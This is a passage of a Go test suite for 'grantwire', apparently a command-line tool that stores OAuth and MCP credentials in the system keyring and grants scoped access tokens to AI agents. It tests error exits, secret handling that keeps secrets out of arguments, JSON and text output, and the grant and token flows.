package main

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/spf13/cobra"
	"github.com/stretchr/testify/require"

	"github.com/grantwire/grantwire"
	"github.com/grantwire/grantwire/catalog"
	"github.com/grantwire/grantwire/core"
	"github.com/grantwire/grantwire/core/nativeengine"
	"github.com/grantwire/grantwire/core/wasmengine"
	"github.com/grantwire/grantwire/hostabi"
	"github.com/grantwire/grantwire/internal/layout"
	"github.com/grantwire/grantwire/internal/testworld/authserver"
	"github.com/grantwire/grantwire/shells/native"
)

const (
	gmailRead   = "https://www.googleapis.com/auth/gmail.readonly"
	gmailModify = "https://www.googleapis.com/auth/gmail.modify"
	gmailSend   = "https://www.googleapis.com/auth/gmail.send"
)

// policyExit is the exit code the policy's error table gives a code.
func policyExit(t *testing.T, code string) int {
	t.Helper()
	ctx := context.Background()
	e, err := wasmengine.New(ctx, wasmengine.WithInterpreter(), wasmengine.WithPoolSize(1))
	require.NoError(t, err)
	defer e.Close(ctx)
	info, ok := e.Manifest().Errors[code]
	require.True(t, ok, code)
	return info.Exit
}

func TestUsageErrorsExit2WithAHint(t *testing.T) {
	tw := newWorld(t)
	require.Equal(t, 2, policyExit(t, "USAGE"))
	cases := []struct {
		name  string
		inv   invocation
		args  []string
		wants []string
	}{
		{"no command", invocation{}, nil, []string{"needs a command", "Usage:"}},
		{"unknown command", invocation{}, []string{"frobnicate"}, []string{`unknown command "frobnicate"`}},
		{"group without command", invocation{}, []string{"grants"}, []string{"grantwire grants needs a command: grant, list, revoke"}},
		{"group with unknown command", invocation{}, []string{"activations", "toggle"}, []string{`unknown command "toggle"`}},
		{"group with unknown command and a flag", invocation{}, []string{"grants", "add", "google", "builtin:email", "--scopes", "openid"}, []string{`unknown command "add" for "grantwire grants" (one of: grant, list, revoke)`, "grantwire grants --help"}},
		{"unknown command and a flag", invocation{}, []string{"frobnicate", "--scopes", "x"}, []string{`unknown command "frobnicate" for "grantwire"`}},
		{"unknown flag", invocation{}, []string{"status", "--bogus"}, []string{"unknown flag: --bogus", "grantwire status --help"}},
		{"missing catalog file", invocation{}, []string{"--catalog", "/nonexistent/c.json", "status"}, []string{"usage: --catalog: stat /nonexistent/c.json: no such file or directory (drop --catalog"}},
		{"the policy's usage error", invocation{}, []string{"grants", "grant", "google", "nosuch:agent", "--scopes", "x"}, []string{"an agent id is namespaced", "see: grantwire grants grant --help"}},
		{"missing argument", invocation{}, []string{"connect"}, []string{"grantwire connect: missing <provider> (grantwire connect <provider>)", "grantwire connect --help"}},
		{"missing arguments", invocation{}, []string{"grants", "revoke"}, []string{"grantwire grants revoke: missing <connector> and <agent>"}},
		{"missing second argument", invocation{}, []string{"grants", "grant", "google"}, []string{"grantwire grants grant: missing <agent> (grantwire grants grant <connector> <agent>)"}},
		{"extra argument", invocation{}, []string{"disconnect", "a", "b"}, []string{`grantwire disconnect: unexpected "b" (grantwire disconnect <connector>)`}},
		{"argument to a command without any", invocation{}, []string{"agents", "list", "x"}, []string{`grantwire agents list takes no arguments: unexpected "x"`}},
		{"bad engine", invocation{}, []string{"--engine", "lua", "status"}, []string{`--engine must be native, wasm or opa-server=URL (rego in the OPA build), not "lua"`}},
		{"rego engine in the default build", invocation{}, []string{"--engine", "rego", "status"}, []string{"--engine rego needs the OPA build", "go build -tags opa"}},
		{"opa-server without a URL", invocation{}, []string{"--engine", "opa-server=", "status"}, []string{"--engine opa-server=URL needs the URL"}},
		{"opa-server with a catalog", invocation{}, []string{"--engine", "opa-server=http://127.0.0.1:1", "--catalog", "c.json", "status"}, []string{"decides with the server's catalog: drop --catalog"}},
		{"native engine on a bundle", invocation{}, []string{"--engine", "native", "--bundle", "b.tar.gz", "status"}, []string{"--bundle runs the bundle's policy.wasm on the wasm engine: drop --engine native"}},
		{"oauth without client id", invocation{}, []string{"configure", "google"}, []string{"configure google needs --client-id"}},
		{"oauth with mcp flags", invocation{}, []string{"configure", "google", "--set", "A=b"}, []string{"is an OAuth provider"}},
		{"mcp with client flags", invocation{}, []string{"configure", "mcp-github", "--client-id", "x"}, []string{"is an MCP server"}},
		{"tenant where none", invocation{}, []string{"configure", "google", "--client-id", "x", "--tenant", "t"}, []string{"google has no tenant"}},
		{"two secret sources", invocation{}, []string{"configure", "google", "--client-id", "x", "--client-secret-stdin", "--client-secret-file", "f"}, []string{"give the client secret once"}},
		{"set without equals", invocation{}, []string{"configure", "mcp-memory", "--set", "MEMORY_FILE_PATH"}, []string{"--set needs KEY=VALUE"}},
		{"grant without scopes", invocation{}, []string{"grants", "grant", "google", "builtin:chat"}, []string{"grants grant needs --scopes"}},
		{"token without agent", invocation{stdoutTTY: false}, []string{"token", "google"}, []string{"token needs --agent"}},
		{"token to a terminal", invocation{stdoutTTY: true}, []string{"token", "google", "--agent", "builtin:email"}, []string{"refusing to print an access token to a terminal", "--force-tty"}},
		{"import without input", invocation{}, []string{"import", "google", "--client-id", "x"}, []string{"--from-stdin or --from-file"}},
		{"import without refresh token", invocation{stdin: `{"client_id": "x", "scopes": ["a"]}`}, []string{"import", "google", "--from-stdin"}, []string{"needs refresh_token"}},
		{"import without client id", invocation{stdin: `{"refresh_token": "r", "scopes": ["a"]}`}, []string{"import", "google", "--from-stdin"}, []string{"the forwarded connection needs client_id"}},
		{"import without scopes", invocation{stdin: `{"client_id": "x", "client_secret": "s", "refresh_token": "r"}`}, []string{"import", "google", "--from-stdin"}, []string{"the forwarded connection needs the scopes its consent granted"}},
		{"import unknown key", invocation{stdin: "client_id=x\nrefresh=abc\n"}, []string{"import", "google", "--from-stdin"}, []string{"stdin line 2 is not KEY=VALUE with a key that a forwarded connection takes", "the line is not shown"}},
		{"test scopes without agent", invocation{}, []string{"test", "google", "--scopes", "openid"}, []string{"--scopes needs --agent"}},
		{"zero timeout", invocation{}, []string{"connect", "google", "--timeout", "0s"}, []string{"--timeout must be positive"}},
		{"agents id of nothing", invocation{}, []string{"agents", "id", "/nonexistent/agent.py"}, []string{"the agent source cannot be read"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := tw.run(tc.inv, tc.args...)
			require.Equal(t, 2, r.code, "stderr: %s", r.stderr)
			require.Empty(t, r.stdout)
			for _, w := range tc.wants {
				require.Contains(t, r.stderr, w)
			}
			require.Contains(t, r.stderr, "grantwire: ")
		})
	}
	require.Empty(t, tw.w.Keyring(), "no usage error stored anything")
}

// Secrets given as arguments are refused without being echoed, and nothing is stored.
func TestSecretsAreNeverTakenFromArguments(t *testing.T) {
	tw := newWorld(t)
	const secret = "s3cr3t-from-argv"
	for _, args := range [][]string{
		{"configure", "google", "--client-id", "cid", "--client-secret", secret},
		{"configure", "google", "--client-id", "cid", "--client-secret=" + secret},
		{"configure", "mcp-github", "--set", "GITHUB_PERSONAL_ACCESS_TOKEN=" + secret},
		{"configure", "mcp-slack", "--set", "SLACK_TEAM_ID=T1", "--set", "SLACK_BOT_TOKEN=" + secret},
		{"import", "google", "--from-stdin", "--refresh-token", secret},
		{"import", "google", "--from-stdin", "--client-secret", secret},
		{"mcp", "add", "m", "--url", "https://mcp.example.com/mcp", "--client-id", "cid", "--client-secret", secret},
		{"mcp", "add", "m", "--url", "https://mcp.example.com/mcp", "--grant", "client-credentials", "--client-id", "cid", "--private-key=" + secret},
		{"mcp", "add", "m", "--url", "https://mcp.example.com/mcp", "--grant", "jwt-bearer", "--client-id", "cid", "--assertion", secret},
	} {
		r := tw.gwIn("client_id=x\nrefresh_token=rt\n", args...)
		require.Equal(t, 2, r.code, "%v: %s", args, r.stderr)
		require.NotContains(t, r.stdout+r.stderr, secret, "%v", args)
		require.Regexp(t, `never taken from arguments|is refused`, r.stderr)
	}
	require.Empty(t, tw.w.Keyring())
	require.NotContains(t, tw.everything(), secret)
}

func TestSecretsFromStdinFilesAndTerminal(t *testing.T) {
	tw := newWorld(t)
	svc := hostabi.DefaultService

	// OAuth client secret on stdin.
	r := tw.gwIn("google-secret-1\n", "configure", "google", "--client-id", "cid-1", "--client-secret-stdin")
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stdout, "Stored the google OAuth client id and secret")
	require.Contains(t, r.stdout, layout.ClientIDHash("cid-1"))
	require.Contains(t, tw.w.Keyring()[svc+"\x00"+layout.ClientUser("google")], "google-secret-1")

	// From a file; a file others can read is used with a warning.
	f := filepath.Join(t.TempDir(), "secret")
	require.NoError(t, os.WriteFile(f, []byte("google-secret-2\n"), 0o644))
	r = tw.gw("configure", "google", "--client-id", "cid-2", "--client-secret-file", f)
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stderr, "readable by other users")
	require.Contains(t, tw.w.Keyring()[svc+"\x00"+layout.ClientUser("google")], "google-secret-2")
	// With --json the warning is JSON too: stderr holds nothing else.
	r = tw.gw("--json", "configure", "google", "--client-id", "cid-2", "--client-secret-file", f)
	require.Equal(t, 0, r.code, r.stderr)
	var warning struct {
		Warning struct {
			Message string `json:"message"`
		} `json:"warning"`
	}
	require.NoError(t, json.Unmarshal([]byte(r.stderr), &warning), r.stderr)
	require.Contains(t, warning.Warning.Message, "readable by other users")

	// Typed on a terminal, without echo.
	r = tw.run(invocation{stdinTTY: true, password: []string{"google-secret-3"}}, "configure", "google", "--client-id", "cid-3", "--client-secret-stdin")
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stderr, "client secret for google (input hidden)")
	require.Contains(t, tw.w.Keyring()[svc+"\x00"+layout.ClientUser("google")], "google-secret-3")

	// Google requires a secret: without one the policy refuses (configuration, exit 3).
	r = tw.gw("configure", "google", "--client-id", "cid-4")
	require.Equal(t, policyExit(t, "CONFIGURATION"), r.code, r.stderr)
	require.Contains(t, r.stderr, "fix: grantwire configure google --client-id <id> --client-secret-stdin")

	// MCP values: KEY=VALUE lines on stdin, non-secret keys with --set.
	r = tw.gwIn("# token\nSLACK_BOT_TOKEN=xoxb-secret-4\n", "configure", "mcp-slack", "--set", "SLACK_TEAM_ID=T0123", "--from-stdin")
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stdout, "Configured mcp-slack: SLACK_BOT_TOKEN, SLACK_TEAM_ID stored")
	require.Equal(t, "xoxb-secret-4", tw.w.Keyring()[svc+"\x00"+layout.MCPUser("mcp-slack", "SLACK_BOT_TOKEN")])

	// From a file.
	env := filepath.Join(t.TempDir(), "github.env")
	require.NoError(t, os.WriteFile(env, []byte("GITHUB_PERSONAL_ACCESS_TOKEN=ghp_secret5\r\n"), 0o600))
	r = tw.gw("configure", "mcp-github", "--from-file", env)
	require.Equal(t, 0, r.code, r.stderr)
	require.NotContains(t, r.stderr, "warning")
	require.Equal(t, "ghp_secret5", tw.w.Keyring()[svc+"\x00"+layout.MCPUser("mcp-github", "GITHUB_PERSONAL_ACCESS_TOKEN")])

	// Asked for on a terminal: the secret without echo, an optional key skipped.
	r = tw.run(invocation{stdinTTY: true, stdin: "\n", password: []string{"sntrys_secret6"}}, "configure", "mcp-sentry", "--from-stdin")
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stderr, "SENTRY_AUTH_TOKEN (a Sentry user auth token) (input hidden)")
	require.Contains(t, r.stderr, "SENTRY_HOST")
	require.Equal(t, "sntrys_secret6", tw.w.Keyring()[svc+"\x00"+layout.MCPUser("mcp-sentry", "SENTRY_AUTH_TOKEN")])

	// Missing required keys: the policy names them (configuration, exit 3).
	r = tw.gwIn("", "configure", "mcp-tavily", "--from-stdin")
	require.Equal(t, 3, r.code, r.stderr)
	require.Contains(t, r.stderr, "mcp-tavily needs TAVILY_API_KEY")
	require.Contains(t, r.stderr, "fix: grantwire configure mcp-tavily --from-stdin", "the fix never puts a secret in an argument")
	// The same key twice, or on stdin and with --set.
	r = tw.gwIn("SLACK_TEAM_ID=T1\nSLACK_BOT_TOKEN=a\n", "configure", "mcp-slack", "--set", "SLACK_TEAM_ID=T2", "--from-stdin")
	require.Equal(t, 2, r.code)
	require.Contains(t, r.stderr, "SLACK_TEAM_ID is given both")

	all := tw.everything(r)
	for _, s := range []string{"google-secret-1", "google-secret-2", "google-secret-3", "xoxb-secret-4", "ghp_secret5", "sntrys_secret6"} {
		require.NotContains(t, all, s, "no secret in ledgers, events or output")
	}
}

func TestConnectGrantTokenAndTheGate(t *testing.T) {
	tw := newWorld(t)
	require.Equal(t, 0, tw.gwIn("cs\n", "configure", "google", "--client-id", "cid", "--client-secret-stdin").code)

	// builtin:email declares gmail.modify and gmail.send: they are authorized and granted.
	r := tw.gw("connect", "google", "--grant-agent", "builtin:email")
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stdout, "Connected google as user@example.com")
	require.Contains(t, r.stdout, "Granted google → builtin:email: "+gmailModify+" "+gmailSend)
	require.Len(t, tw.browsed, 1, "the browser was opened")
	require.Contains(t, r.stderr, "grantwire: waiting for the google authorization in the browser")
	require.Contains(t, r.stderr, "Open https://accounts.google.com/o/oauth2/v2/auth")

	// The token goes to a pipe, for a granted agent only.
	r = tw.gw("token", "google", "--agent", "builtin:email", "--scopes", gmailModify)
	require.Equal(t, 0, r.code, r.stderr)
	require.Regexp(t, `^access-google-\d+\n$`, r.stdout)
	r = tw.run(invocation{stdoutTTY: true}, "token", "google", "--agent", "builtin:email", "--scopes", gmailModify, "--force-tty")
	require.Equal(t, 0, r.code, r.stderr)

	r = tw.gw("token", "google", "--agent", "builtin:chat", "--scopes", gmailRead)
	require.Equal(t, policyExit(t, "AGENT_NOT_GRANTED"), r.code)
	require.Equal(t, 4, r.code)
	require.Empty(t, r.stdout)
	require.Contains(t, r.stderr, "fix: grantwire grants grant google builtin:chat --scopes "+gmailRead)

	r = tw.gw("grants", "grant", "google", "builtin:chat", "--scopes", "")
	require.Equal(t, 0, r.code, r.stderr)
	require.Equal(t, "Granted google → builtin:chat: no scope (it hands out no token)\n", r.stdout, "a grant of no scope says so")
	r = tw.gw("grants", "list", "google")
	require.Regexp(t, `(?m)^google\s+builtin:chat\s+-$`, r.stdout, "an empty cell is a dash, as in every table")
	r = tw.gw("grants", "grant", "google", "builtin:chat", "--scopes", gmailRead)
	require.Equal(t, 0, r.code, r.stderr)
	r = tw.gw("token", "google", "--agent", "builtin:chat", "--scopes", gmailRead)
	require.Equal(t, 4, r.code)
	require.Contains(t, r.stderr, "connection lacks "+gmailRead)
	require.Contains(t, r.stderr, "fix: grantwire connect google --scopes")

	// Reconnecting with no scopes would drop what is held: refused with the keeping command.
	r = tw.gw("connect", "google")
	require.Equal(t, 3, r.code)
	require.Contains(t, r.stderr, "fix: grantwire connect google --scopes")

	// The headless path: --no-browser prints the URL and does not open a browser.
	r = tw.gw("connect", "google", "--scopes", gmailRead+","+gmailModify+","+gmailSend, "--no-browser")
	require.Equal(t, 0, r.code, r.stderr)
	require.Len(t, tw.browsed, 1)
	require.Nil(t, tw.lastOptions().Browser)
	require.True(t, tw.lastOptions().Interactive)
	require.Contains(t, r.stderr, "Open https://accounts.google.com")

	// No browser and nobody at a terminal: INTERACTIVE_AUTH_REQUIRED.
	r = tw.run(invocation{noBrowser: true}, "connect", "google", "--scopes", gmailRead)
	require.Equal(t, policyExit(t, "INTERACTIVE_AUTH_REQUIRED"), r.code, r.stderr)
	require.Contains(t, r.stderr, "--no-browser")

	// test proves the refresh token works when given an agent.
	tw.w.Advance(2 * time.Hour)
	r = tw.gw("test", "google", "--agent", "builtin:chat", "--scopes", gmailRead)
	require.Equal(t, 0, r.code, r.stderr)
	require.Contains(t, r.stdout, "google: OK  connected as user@example.com")
	require.Contains(t, r.stdout, "builtin:chat obtained a token")
	require.NotContains(t, r.stdout, "access-google")
}

func TestWaitingShowsACountdownOnATerminalAndCtrlCCancels(t *testing.T) {
	tw := newWorld(t)
	require.Equal(t, 0, tw.gwIn("cs\n", "configure", "google", "--client-id", "cid", "--client-secret-stdin").code)
	ctx, cancel := context.WithCancel(context.Background())
	tw.authorize = func(actx context.Context) error {
		time.Sleep(3 * spinnerTick) // the spinner redraws meanwhile
		cancel()                    // Ctrl-C
		<-actx.Done()
		return actx.Err()
	}
	r := tw.run(invocation{ctx: ctx, stderrTTY: true, stdinTTY: true}, "connect", "google", "--scopes", gmailRead, "--timeout", "90s")
	require.Equal(t, exitCancelled, r.code, r.stderr)
	require.Contains(t, r.stderr, "waiting for the google authorization in the browser (up to 1m30s; Ctrl-C cancels)")
	require.Regexp(t, `⠋ waiting for the google authorization · 1:(30|29) left · Ctrl-C cancels`, r.stderr)
	require.Contains(t, r.stderr, "\r\033[K", "the spinner line is redrawn and cleared")
	require.Contains(t, r.stderr, "grantwire: cancelled")
	_, ok := tw.w.Keyring()[hostabi.DefaultService+"\x00"+layout.ConnectionUser("google")]
	require.False(t, ok, "a cancelled connect stores nothing")

	// Off a terminal: the lines pass through, no spinner.
	tw.authorize = nil
	r = tw.gw("connect", "google", "--scopes", gmailRead)
	require.Equal(t, 0, r.code, r.stderr)
	require.NotContains(t, r.stderr, "\r")
	require.NotContains(t, r.stderr, "left ·")
}

func TestExitCodesFollowThePolicyTable(t *testing.T) {
	tw := newWorld(t)
	// unknown connector → 1, whether the catalog or the policy says it.
	for _, args := range [][]string{{"catalog", "nope"}, {"status", "nope"}, {"disconnect", "nope"}, {"configure", "nope"}, {"test", "nope"}, {"grants", "list", "nope"}} {
		r := tw.gw(args...)
		require.Equal(t, policyExit(t, "UNKNOWN_CONNECTOR"), r.code, "%v: %s", args, r.stderr)
		require.Equal(t, 1, r.code)
		require.Contains(t, r.stderr, "grantwire: unknown connector nope\n")
		require.Contains(t, r.stderr, "fix: grantwire catalog")
	}
	// activation on an OAuth connector → configuration, 3.
	r := tw.gw("activations", "activate", "google", "builtin:chat")
	require.Equal(t, 3, r.code)
	require.Equal(t, policyExit(t, "CONFIGURATION"), r.code)
	require.Contains(t, r.stderr, "activations apply to MCP connectors only")
	// not connected → 4.
	r = tw.gw("grants", "grant", "google", "builtin:chat", "--scopes", gmailRead)
	require.Equal(t, 0, r.code)
	r = tw.gw("token", "google", "--agent", "builtin:chat", "--scopes", gmailRead)
	require.Equal(t, 4, r.code)
	require.Contains(t, r.stderr, "google is not connected")
	// busy → 75.
	tw.w.Hold("google", "another process")
	r = tw.gw("disconnect", "google")
	require.Equal(t, 75, r.code)
	require.Equal(t, policyExit(t, "BUSY"), r.code)
	require.Contains(t, r.stderr, "retry shortly")
	tw.w.Release("google")
	// corrupt ledger → 5, naming the file and the fix, nothing reset.
	grants := filepath.Join(tw.home, ".grantwire", "connectors", "grants.json")
	require.NoError(t, os.WriteFile(grants, []byte("{not json"), 0o600))
	r = tw.gw("grants", "list")
	require.Equal(t, 5, r.code)
	require.Equal(t, policyExit(t, "CORRUPT_LEDGER"), r.code)
	require.Contains(t, r.stderr, grants)
	require.Contains(t, r.stderr, "fix: mv "+grants+" "+grants+".corrupt")
	got, err := os.ReadFile(grants)
	require.NoError(t, err)
	require.Equal(t, "{not json", string(got))
	// The OS shell that cannot open → 5 with the reason.
	tw2 := newWorld(t)
	r = tw2.run(invocation{}, "status")
	require.Equal(t, 0, r.code)
	r = runWithShellError(t, "native: no Secret Service on the session bus")
	require.Equal(t, 5, r.code)
	require.Contains(t, r.stderr, "cannot open the OS shell: native: no Secret Service")
	// An insecure store reported by the shell keeps its code and exit.
	ce := &hostabi.HostError{Code: hostabi.HostErrInsecureStore, Detail: "no secure credential store", Fix: "install gnome-keyring"}
	r = runWithShellErr(t, ce)
	require.Equal(t, policyExit(t, "INSECURE_STORE"), r.code)
	require.Contains(t, r.stderr, "fix: install gnome-keyring")
}

func runWithShellError(t *testing.T, msg string) result {
	return runWithShellErr(t, &plainError{msg})
}

type plainError struct{ s string }

func (p *plainError) Error() string { return p.s }

func runWithShellErr(t *testing.T, shellErr error) result {
	t.Helper()
	tw := newWorld(t)
	var out, errb strings.Builder
	e := env{Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errb, Getenv: func(string) string { return "" },
		NewShell: func(native.Options) (Shell, error) { return nil, shellErr },
		UserHome: func() (string, error) { return tw.home, nil }}
	code := run(context.Background(), []string{"status"}, e)
	return result{code: code, stdout: out.String(), stderr: errb.String()}
}

func TestJSONOutputsParse(t *testing.T) {
	tw := newWorld(t)
	var cat struct {
		Connectors []catalog.Entry `json:"connectors"`
	}
	r := tw.gw("catalog", "--json")
	require.Equal(t, 0, r.code)
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &cat))
	require.GreaterOrEqual(t, len(cat.Connectors), 23)
	require.Equal(t, "google", cat.Connectors[0].ID)
	r = tw.gw("catalog", "--json", "--tier", "search")
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &cat))
	require.NotEmpty(t, cat.Connectors)
	for _, e := range cat.Connectors {
		require.Equal(t, "search", e.Tier)
	}
	var one catalog.Entry
	require.NoError(t, json.Unmarshal([]byte(tw.gw("catalog", "mcp-github", "--json").stdout), &one))
	require.Equal(t, "GITHUB_PERSONAL_ACCESS_TOKEN", one.Env[0].Key)
	var rawDoc map[string]map[string]json.RawMessage
	require.NoError(t, json.Unmarshal([]byte(tw.gw("catalog", "--raw").stdout), &rawDoc))
	require.Contains(t, rawDoc["connectors"], "mcp-brave-search")

	require.Equal(t, 0, tw.gwIn("cs\n", "configure", "google", "--client-id", "cid", "--client-secret-stdin", "--json").code)
	var conn grantwire.ConnectResult
	r = tw.gw("connect", "google", "--grant-agent", "builtin:email", "--json")
	require.Equal(t, 0, r.code, r.stderr)
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &conn))
	require.Equal(t, []string{gmailModify, gmailSend}, conn.Granted["builtin:email"])

	var cfg map[string]any
	r = tw.gwIn("BRAVE_API_KEY=bsa-secret\n", "configure", "mcp-brave-search", "--from-stdin", "--json")
	require.Equal(t, 0, r.code, r.stderr)
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &cfg))
	require.Equal(t, []any{"BRAVE_API_KEY"}, cfg["env_keys"])
	r = tw.gw("configure", "mcp-time", "--json")
	require.Equal(t, 0, r.code, r.stderr)
	require.JSONEq(t, `{"connector": "mcp-time", "env_keys": []}`, r.stdout, "a server of no keys: an empty list, not null")

	var act grantwire.Activation
	r = tw.gw("activations", "activate", "mcp-brave-search", "builtin:chat", "--json")
	require.Equal(t, 0, r.code, r.stderr)
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &act))
	require.True(t, act.AutoGranted)
	require.Equal(t, "consumes_mcp_servers", act.GrantSource)

	require.JSONEq(t, `{"activations": [{"connector": "mcp-brave-search", "agent": "builtin:chat"}]}`, tw.gw("activations", "list", "--json").stdout)

	require.JSONEq(t, `{"grants": [
		{"connector": "google", "agent": "builtin:email", "scopes": ["`+gmailModify+`", "`+gmailSend+`"]},
		{"connector": "mcp-brave-search", "agent": "builtin:chat", "scopes": ["use"]}]}`, tw.gw("grants", "list", "--json").stdout)
	require.JSONEq(t, `{"grants": []}`, tw.gw("grants", "list", "dropbox", "--json").stdout)

	var st struct {
		Home       string                      `json:"home"`
		Service    string                      `json:"keyring_service"`
		Connectors []grantwire.ConnectorStatus `json:"connectors"`
	}
	r = tw.gw("status", "--json")
	require.Equal(t, 0, r.code, r.stderr)
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &st))
	require.Equal(t, filepath.Join(tw.home, ".grantwire"), st.Home)
	require.Equal(t, hostabi.DefaultService, st.Service)
	byID := map[string]grantwire.ConnectorStatus{}
	for _, row := range st.Connectors {
		byID[row.ID] = row
	}
	require.True(t, byID["google"].Configured)
	require.Equal(t, "user@example.com", byID["google"].Account)
	require.True(t, byID["mcp-brave-search"].Configured)
	require.Equal(t, []string{"builtin:chat"}, byID["mcp-brave-search"].Activations)
	require.False(t, byID["dropbox"].Configured)
	for _, key := range []string{"refresh_token", "access_token", "client_secret", "bsa-secret"} {
		require.NotContains(t, r.stdout, key)
	}

	var tr testResult
	r = tw.gw("test", "mcp-brave-search", "--agent", "builtin:chat", "--json")
	require.Equal(t, 0, r.code, r.stderr)
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &tr))
	require.True(t, tr.OK)
	require.NotContains(t, r.stdout, "bsa-secret")

	var tok map[string]any
	r = tw.gw("token", "google", "--agent", "builtin:email", "--scopes", gmailSend, "--json")
	require.Equal(t, 0, r.code, r.stderr)
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &tok))
	require.Regexp(t, `^access-google-`, tok["access_token"])
	_, err := time.Parse(time.RFC3339, tok["expires_at"].(string))
	require.NoError(t, err)

	var ag struct {
		File     string                   `json:"file"`
		Agents   []grantwire.Agent        `json:"agents"`
		Problems []grantwire.AgentProblem `json:"problems"`
	}
	require.NoError(t, json.Unmarshal([]byte(tw.gw("agents", "list", "--json").stdout), &ag))
	require.Equal(t, filepath.Join(tw.home, ".grantwire", "agents.json"), ag.File)
	require.NotEmpty(t, ag.Agents)
	require.NotNil(t, ag.Problems)

	var disc grantwire.DisconnectResult
	r = tw.gw("disconnect", "mcp-brave-search", "--json")
	require.Equal(t, 0, r.code, r.stderr)
	require.NoError(t, json.Unmarshal([]byte(r.stdout), &disc))
	require.True(t, disc.Removed)
	require.Equal(t, []string{"builtin:chat"}, disc.RevokedGrants)
	require.Equal(t, []string{"builtin:chat"}, disc.Deactivated)

	// Errors, with --json, are one JSON object on stderr.
	r = tw.gw("token", "google", "--agent", "builtin:chat", "--scopes", gmailRead, "--json")
	require.Equal(t, 4, r.code)
	require.Empty(t, r.stdout)
	var e struct {
		Error map[string]any `json:"error"`
	}
	require.NoError(t, json.Unmarshal([]byte(r.stderr), &e))
	require.Equal(t, "AGENT_NOT_GRANTED", e.Error["code"])
	require.Equal(t, float64(4), e.Error["exit"])
	require.Equal(t, []any{gmailRead}, e.Error["missing_scopes"])
	require.Contains(t, e.Error["fix"], "grantwire grants grant google builtin:chat")
	r = tw.gw("--json", "grants")
	require.Equal(t, 2, r.code)
	require.NoError(t, json.Unmarshal([]byte(r.stderr[strings.Index(r.stderr, "{"):]), &e))
	require.Equal(t, "USAGE", e.Error["code"])
}

func TestTextOutputs(t *testing.T) {
	tw := newWorld(t)
	r := tw.gw("catalog")
	require.Equal(t, 0, r.code)
	lines := strings.Split(strings.TrimSpace(r.stdout), "\n")
	require.Regexp(t, `^ID\s+TYPE\s+TIER\s+NAME$`, lines[0])
	require.Regexp(t, `^google\s+oauth_pkce\s+core\s+Google$`, lines[1])
	r = tw.gw("catalog", "google")
	require.Contains(t, r.stdout, "token:")
	require.Contains(t, r.stdout, "https://oauth2.googleapis.com/token")
	require.Contains(t, r.stdout, "$GRANTWIRE_GOOGLE_CLIENT_SECRET (secret required)")
	// The issuer a response must name, like every other field (issue 20 §2.1).
	require.Regexp(t, `(?m)^issuer:\s+https://accounts\.google\.com \(every authorization response must name it\)$`, r.stdout)
	r = tw.gw("catalog", "github")
	require.Regexp(t, `(?m)^issuer:\s+https://github\.com \(not in the catalog: the authorization endpoint's origin`, r.stdout)

	r = tw.gw("grants", "list")
	require.Equal(t, "No grants.\n", r.stdout)
	r = tw.gw("activations", "list")
	require.Equal(t, "No activations.\n", r.stdout)

	require.Equal(t, 0, tw.gwIn("GITHUB_PERSONAL_ACCESS_TOKEN=ghp_x\n", "configure", "mcp-github", "--from-stdin").code)
	r = tw.gw("activations", "activate", "mcp-github", "builtin:code")
	require.Equal(t, 0, r.code, r.stderr)
	require.Equal(t, "Granted mcp-github → builtin:code: use (the scopes the agent declares)\nActivated mcp-github for builtin:code.\n", r.stdout)
	r = tw.gw("activations", "activate", "mcp-github", "builtin:code")
	require.Equal(t, "mcp-github was already active for builtin:code.\n", r.stdout)
	r = tw.gw("activations", "activate", "mcp-github", "builtin:email")
	require.Equal(t, 3, r.code, "an agent that declares nothing needs --scopes")
	require.Contains(t, r.stderr, "fix: grantwire activations activate mcp-github builtin:email --scopes use")

	r = tw.gw("status")
	require.Equal(t, 0, r.code, r.stderr)
	require.Regexp(t, `(?m)^mcp-github\s+mcp_server\s+configured\s+GITHUB_PERSONAL_ACCESS_TOKEN\s+builtin:code\s+builtin:code$`, r.stdout)
	require.Regexp(t, `(?m)^google\s+oauth_pkce\s+not connected\s+no client\s+-\s+-$`, r.stdout)

	r = tw.gw("grants", "list", "mcp-github")
	require.Regexp(t, `(?m)^mcp-github\s+builtin:code\s+use$`, r.stdout)
	r = tw.gw("activations", "deactivate", "mcp-github", "builtin:code")
	require.Equal(t, "Deactivated mcp-github for builtin:code (the grant is kept).\n", r.stdout)
	r = tw.gw("grants", "revoke", "mcp-github", "builtin:code")
	require.Equal(t, "Revoked builtin:code's grant on mcp-github.\n", r.stdout)
	r = tw.gw("grants", "revoke", "mcp-github", "builtin:code")
	require.Equal(t, 0, r.code)
	require.Contains(t, r.stdout, "nothing to revoke")
	r = tw.gw("disconnect", "mcp-github")
	require.Equal(t, "Disconnected mcp-github.\n", r.stdout)
	r = tw.gw("disconnect", "mcp-github")
	require.Equal(t, 0, r.code)
	require.Equal(t, "mcp-github is not configured: nothing to remove.\n", r.stdout)
	r = tw.gw("disconnect", "dropbox")
	require.Equal(t, 0, r.code, r.stderr)
	require.Equal(t, "dropbox is not connected: nothing to remove.\n", r.stdout)
}

func TestTestCommand(t *testing.T) {
	tw := newWorld(t)
	r := tw.gw("test", "google")
	require.Equal(t, 4, r.code)
	require.Contains(t, r.stdout, "google: FAIL  google is not connected")
	require.Contains(t, r.stdout, "fix: grantwire connect google --scopes openid,https://www.googleapis.com/auth/userinfo.email")
	require.Empty(t, r.stderr, "the failure is printed once, on stdout")

	r = tw.gw("test", "mcp-tavily")
	require.Equal(t, 4, r.code)
	require.Contains(t, r.stdout, "mcp-tavily: FAIL  mcp-tavily is not configured")
